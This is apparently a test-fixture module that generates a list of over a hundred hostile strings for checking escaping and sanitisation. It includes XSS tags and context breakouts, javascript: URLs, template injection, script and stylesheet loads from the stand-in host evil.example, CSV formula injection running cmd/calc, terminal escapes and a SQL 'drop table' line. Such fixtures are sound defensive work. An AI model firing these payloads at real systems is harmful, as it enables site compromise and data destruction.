// Texts meant to break out of wherever they are put: into HTML, attributes, scripts, styles, URLs, CSV cells, terminals and templates.

const CALL = 'window.__broken=1'
const EVENTS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter']
const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'iframe',
  'details open',
  'input autofocus',
  'video src=x',
  'audio src=x',
  'object data=x',
  'marquee',
]

const tags = EVENTS.flatMap((event, index) =>
  ELEMENTS.filter((_, place) => (place + index) % 2 === 0).map((element) => `<${element} ${event}=${CALL}>`),
)

const breakouts = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '-->',
  ']]>',
  '*/',
  '\\',
  '\u2028',
].flatMap((exit) => [`${exit}<script>${CALL}</script>`, `${exit} onmouseover=${CALL} x=`])

const others = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `<a href="javascript:${CALL}">here</a>`,
  `<a href="java\tscript:${CALL}">here</a>`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `<math><mi xlink:href="data:x,<script>${CALL}</script>">`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><script>${CALL}</script></svg>`,
  `<style>@import 'javascript:${CALL}'</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<base href=//evil.example/>`,
  `<form action=//evil.example><input name=q></form>`,
  `<template><script>${CALL}</script></template>`,
  `<!--><script>${CALL}</script>-->`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<%= ${CALL} %>`,
  `<!--head--><script>${CALL}</script>`,
  `<!--noscript--><script>${CALL}</script>`,
  `$&$\`$'$1<b>`,
  `=HYPERLINK("http://evil.example","x")`,
  `+1+1`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)`,
  `|calc`,
  `\t=1+1`,
  `＝1+1`,
  `\u001b[2J\u001b]0;title\u0007`,
  `\u202e<img src=x onerror=${CALL}>`,
  `'; drop table domain; --`,
]

/** More than a hundred of them. Any that ran in a page would set `window.__broken`. */
export const HOSTILE_TEXTS: readonly string[] = [...new Set([...others, ...tags, ...breakouts])]
